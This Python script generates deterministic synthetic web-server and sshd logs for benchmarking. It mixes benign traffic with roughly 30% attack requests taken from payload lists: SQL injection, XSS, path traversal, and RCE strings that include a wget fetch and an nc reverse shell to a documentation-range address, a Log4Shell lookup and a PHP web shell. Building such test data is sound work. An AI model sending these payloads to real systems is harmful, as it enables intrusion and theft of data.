#!/usr/bin/env python3
"""benchlog: the deterministic benchmark logs of `make bench`.

  benchlog.py combined --geo TSV --lines N --seed S OUT
  benchlog.py sshd --geo TSV --lines N --seed S OUT

combined: an nginx/Apache combined log with a realistic line-length mix
(short asset requests, long query strings, long browser user agents, empty
referers), a skewed country mix (Zipf over the countries of the GeoIP source
table, addresses repeating the way real clients do), about 30% attacks of
every category with varied payloads, ~10% IPv6 clients, and a sprinkle of
hostile lines (binary requests, unparsable garbage, 8 KiB URIs).

sshd: an auth.log of sshd lines (traditional syslog timestamps): failed
passwords for valid and invalid users, invalid users, PAM failures,
preauth disconnects, scanners without identification string, accepted
logins and other programs' lines.

The same seed gives the same bytes. A summary (lines, attacks by category)
goes to stderr.
"""

import argparse
import ipaddress
import random
import sys
import time

sys.path.insert(0, __file__.rsplit("/", 2)[0] + "/tools")
import loggen  # noqa: E402

MONTHS = loggen.MONTHS

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "-",
]
SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "gobuster/3.6",
]
PAGES = ["/", "/index.html", "/about", "/contact", "/blog/", "/pricing",
         "/docs/getting-started", "/products", "/cart", "/account/login"]
ASSETS = ["/static/css/site.%d.css", "/static/js/app.%d.min.js",
          "/images/photo-%d.jpg", "/fonts/inter-%d.woff2", "/favicon.ico"]
WORDS = ["union", "station", "select", "plan", "drop", "down", "alpha", "beta",
         "summer", "sale", "shoes", "red", "blue", "o'brien", "café", "new"]

SQLI = ["1' OR '1'='1", "1 UNION SELECT username,password FROM users--",
        "5 AND SLEEP(5)", "1'; DROP TABLE users--", "1 AND 1=2 UNION ALL SELECT "
        "NULL,version(),NULL--", "admin'--", "1' AND extractvalue(1,concat(0x7e,"
        "(select database())))--", "-1 OR 3*2=6"]
XSS = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>",
       "\"><svg/onload=alert(1)>", "javascript:alert(1)",
       "<iframe src=javascript:alert(1)>", "<body onload=alert('x')>"]
TRAV = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd",
        "....//....//etc/shadow", "..\\..\\..\\windows\\win.ini",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ"]
RCE = [";cat /etc/passwd", "|id", "$(uname -a)", "`wget http://198.51.100.7/x`",
       "${jndi:ldap://198.51.100.9:1389/a}", "<?php system($_GET['c']); ?>",
       "{{7*7}}", ";nc -e /bin/sh 198.51.100.7 4444"]
PROBES = ["/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php",
          "/phpmyadmin/index.php", "/backup.sql", "/.aws/credentials",
          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.DS_Store",
          "/config.php.bak", "/server-status", "/cgi-bin/test.cgi"]
CATEGORIES = ["sqli", "xss", "traversal", "rce", "scanner", "probe", "auth"]


def pct(s):
    """Percent-encodes what a browser would, as the data README says."""
    out = []
    for ch in s.encode():
        c = chr(ch)
        if c.isalnum() or c in "-_.~/=&,":
            out.append(c)
        else:
            out.append("%%%02X" % ch)
    return "".join(out)


class Clients:
    """Addresses by country with a Zipf skew, repeating like real clients."""

    def __init__(self, rng, rows):
        self.rng = rng
        by_cc = {}
        for net, cc in rows:
            if cc != "ZZ":
                by_cc.setdefault(cc, []).append(net)
        ccs = sorted(by_cc)
        rng.shuffle(ccs)
        self.ccs = ccs
        self.weights = [1.0 / (i + 1) ** 1.1 for i in range(len(ccs))]
        self.nets = by_cc
        self.pool = {}

    def address(self):
        cc = self.rng.choices(self.ccs, weights=self.weights)[0]
        pool = self.pool.setdefault(cc, [])
        # Half the requests come from an address seen before.
        if pool and self.rng.random() < 0.5:
            return self.rng.choice(pool)
        nets = self.nets[cc]
        v6 = [n for n in nets if n.version == 6]
        net = self.rng.choice(v6 if v6 and self.rng.random() < 0.1 else nets)
        addr = loggen.random_address(self.rng, net)
        if len(pool) < 5000:
            pool.append(addr)
        return addr


def clf(t):
    tm = time.gmtime(t)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (
        tm.tm_mday, MONTHS[tm.tm_mon - 1], tm.tm_year, tm.tm_hour, tm.tm_min,
        tm.tm_sec)


def benign(rng):
    r = rng.random()
    if r < 0.45:
        path = rng.choice(ASSETS)
        if "%d" in path:
            path = path % rng.randrange(1, 400)
        return "GET", path, rng.choice([200, 200, 304]), rng.choice(UAS[:7])
    if r < 0.8:
        path = rng.choice(PAGES)
        if rng.random() < 0.3:
            path += "?utm_source=%s&utm_medium=cpc&utm_campaign=%s-%d" % (
                rng.choice(["google", "newsletter", "twitter"]),
                rng.choice(WORDS), rng.randrange(1000))
        return rng.choice(["GET"] * 9 + ["POST"]), path, 200, rng.choice(UAS)
    if r < 0.95:
        q = " ".join(rng.choice(WORDS) for _ in range(rng.randrange(1, 6)))
        return "GET", "/search?q=%s&page=%d" % (pct(q).replace("%20", "+"),
                                              rng.randrange(1, 9)), 200, \
            rng.choice(UAS)
    return "GET", "/products/%d" % rng.randrange(10**5), rng.choice(
        [200, 404, 301]), rng.choice(UAS)


def attack(rng, cat):
    ua = rng.choice(UAS[:5])
    param = rng.choice(["id", "q", "page", "file", "name", "cmd", "search"])
    if cat == "sqli":
        return "GET", "/item.php?%s=%s" % (param, pct(rng.choice(SQLI))), 200, ua
    if cat == "xss":
        return "GET", "/search?%s=%s" % (param, pct(rng.choice(XSS))), 200, ua
    if cat == "traversal":
        p = rng.choice(TRAV)
        if rng.random() < 0.5:
            return "GET", "/download?file=%s" % pct(p), 400, ua
        return "GET", "/static/" + p.lstrip("/"), 404, ua
    if cat == "rce":
        if rng.random() < 0.15:
            return "GET", "/cgi-bin/status", 200, "() { :; }; /bin/bash -c 'id'"
        return "GET", "/ping.php?host=127.0.0.1%s" % pct(rng.choice(RCE)), \
            200, ua
    if cat == "scanner":
        return "GET", rng.choice(PAGES), rng.choice([200, 404]), \
            rng.choice(SCANNER_UAS)
    if cat == "probe":
        return rng.choice(["GET", "HEAD"]), rng.choice(PROBES), 404, ua
    return "POST", rng.choice(["/login", "/wp-admin/admin-ajax.php", "/api/auth"]), \
        401, ua


def hostile(rng, addr, t):
    r = rng.random()
    if r < 0.4:
        return '%s - - [%s] "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00\\x00\\xA1\\x03\\x03" 400 157 "-" "-"' % (addr, clf(t))
    if r < 0.6:
        return "garbage %d without structure" % rng.randrange(10**9)
    if r < 0.8:
        return '%s - - [%s] "GET /%s HTTP/1.1" 414 0 "-" "-"' % (
            addr, clf(t), "A" * 8000)
    return '%s - - [%s] "-" 400 0 "-" "-"' % (addr, clf(t))


def combined(args, rows):
    rng = random.Random(args.seed)
    clients = Clients(rng, rows)
    t = 1_700_000_000
    counts = {c: 0 for c in CATEGORIES}
    with open(args.out, "w") as f:
        for i in range(args.lines):
            if i % 7 == 0:
                t += 1
            addr = clients.address()
            r = rng.random()
            if r < 0.002:
                f.write(hostile(rng, addr, t) + "\n")
                continue
            if r < 0.302:
                cat = CATEGORIES[i % len(CATEGORIES)]
                counts[cat] += 1
                method, target, status, ua = attack(rng, cat)
                ref = "-"
            else:
                method, target, status, ua = benign(rng)
                ref = rng.choice(["-", "-", "https://www.example.com/",
                                  "https://www.google.com/search?q=" +
                                  "+".join(rng.choice(WORDS) for _ in range(3))])
            size = rng.randrange(0, 60000) if status != 304 else 0
            f.write('%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
                addr, clf(t), method, target, status, size, ref, ua))
    print("combined: %d lines, attacks by category %s" % (args.lines, counts),
          file=sys.stderr)


def sshd(args, rows):
    rng = random.Random(args.seed)
    clients = Clients(rng, rows)
    t = 1_700_000_000
    users = ["root", "admin", "ubuntu", "test", "oracle", "git", "postgres",
             "user", "deploy", "pi"]
    n = 0
    with open(args.out, "w") as f:
        while n < args.lines:
            t += rng.randrange(0, 2)
            tm = time.gmtime(t)
            stamp = "%s %2d %02d:%02d:%02d" % (MONTHS[tm.tm_mon - 1], tm.tm_mday,
                                               tm.tm_hour, tm.tm_min, tm.tm_sec)
            pid = rng.randrange(1000, 60000)
            pre = "%s web1 sshd[%d]: " % (stamp, pid)
            addr = clients.address()
            port = rng.randrange(1024, 65535)
            user = rng.choice(users)
            r = rng.random()
            if r < 0.35:
                lines = ["Failed password for %s from %s port %d ssh2" % (
                    user, addr, port)]
            elif r < 0.6:
                lines = ["Invalid user %s from %s port %d" % (user, addr, port),
                         "Failed password for invalid user %s from %s port %d ssh2"
                         % (user, addr, port),
                         "Connection closed by invalid user %s %s port %d [preauth]"
                         % (user, addr, port)]
            elif r < 0.7:
                lines = ["pam_unix(sshd:auth): authentication failure; logname= "
                         "uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (addr, user)]
            elif r < 0.75:
                lines = ["Did not receive identification string from %s port %d" % (
                    addr, port)]
            elif r < 0.85:
                lines = ["Accepted publickey for deploy from %s port %d ssh2: "
                         "ED25519 SHA256:abc" % (addr, port),
                         "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"]
            else:
                pre = "%s web1 CRON[%d]: " % (stamp, pid)
                lines = ["pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"]
            for line in lines:
                f.write(pre + line + "\n")
                n += 1
    print("sshd: %d lines" % n, file=sys.stderr)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("kind", choices=["combined", "sshd"])
    ap.add_argument("--geo", required=True)
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=2026)
    ap.add_argument("out")
    args = ap.parse_args()
    rows = loggen.load_geo(args.geo)
    (combined if args.kind == "combined" else sshd)(args, rows)


if __name__ == "__main__":
    main()
